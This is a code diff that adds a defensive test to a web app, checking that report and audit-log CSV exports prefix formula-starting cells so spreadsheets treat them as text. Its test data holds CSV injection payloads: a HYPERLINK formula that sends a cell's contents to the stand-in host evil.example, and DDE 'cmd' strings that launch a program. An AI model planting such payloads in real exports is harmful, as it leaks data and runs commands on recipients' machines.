@@ -2,12 +2,14 @@
  * Issue 57, "Security (medium and low)" and "Where the API departs from the earlier issue texts":
  * each item's refusal or record, as an outside caller meets it.
  */
+import { parse as parseCsv } from 'csv-parse/sync';
 import { and, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { auditEntries, briefTemplates, mailOutbox, organisations, orgClients, orgInvitations, reports, users } from '../../src/server/db/schema';
 import { ORG_ROLES, type OrgRole } from '../../src/shared/org';
 import { Agent, createTestApp, type TestApp } from '../support/app';
 import { kinds, PASSWORD, signedIn, uniqueEmail } from '../support/factories';
+import { createOpportunity, sessionIdOf } from '../support/payments';
 
 let t: TestApp;
 beforeAll(async () => {
@@ -209,5 +211,38 @@ describe('every name is one line (issue 57)', () => {
     const accepted = await invitee.post(`/api/invitations/${(mail.data as { token: string }).token}/accept`, { name: HOSTILE });
     expect(accepted.status, accepted.text).toBe(200);
     expect((await invitee.get('/api/user')).body.name).toBe(CLEAN);
+  });
+});
+
+describe('every CSV guards against formulas (issue 57)', () => {
+  const FORMULAS = {
+    title: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    outlet: '+cmd|\' /C calc\'!A0',
+    client: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  };
+
+  it('a report’s CSV writes =, +, - and @ cells as text, like the audit log’s and the payments export', async () => {
+    const owner = await signedIn(t.app, t.db, kinds.approvedBrand);
+    const client = await owner.agent.post('/api/org/clients', { name: FORMULAS.client });
+    expect(client.status, client.text).toBe(201);
+    const opp = await createOpportunity(t.db, { title: FORMULAS.title, outletName: FORMULAS.outlet, priceUsd: '100.00' });
+    const checkout = await owner.agent.post('/api/payments/checkout', { opportunityId: opp.id, clientId: client.body.id });
+    expect(checkout.status, checkout.text).toBe(200);
+    expect((await owner.agent.post(`/api/payments/checkout/${sessionIdOf(checkout.body.url)}/pay`)).status).toBe(200);
+    const report = await owner.agent.post('/api/org/reports', { name: '-2+3', columns: ['outlet', 'title', 'client', 'price'], showPrices: true });
+    expect(report.status, report.text).toBe(201);
+
+    const csv = await owner.agent.get(`/api/org/reports/${report.body.id}/csv`);
+    expect(csv.status).toBe(200);
+    const [header, line] = parseCsv(csv.text) as string[][];
+    expect(header).toEqual(['Outlet', 'Article', 'Client', 'Price']);
+    expect(line).toEqual([`'${FORMULAS.outlet}`, `'${FORMULAS.title}`, `'${FORMULAS.client}`, '$100.00']);
+    // nothing in the file starts a cell with a formula
+    for (const cell of line) expect(cell).not.toMatch(/^[=+\-@]/);
+
+    // the audit log's CSV, through the same helper: the client added is its entry's subject
+    const audit = parseCsv((await owner.agent.get('/api/org/audit.csv')).text) as string[][];
+    expect(audit.find((r) => r[3] === 'client_added')?.[4]).toBe(`'${FORMULAS.client}`);
+    for (const cell of audit.flat()) expect(cell).not.toMatch(/^[=+\-@]/);
   });
 });
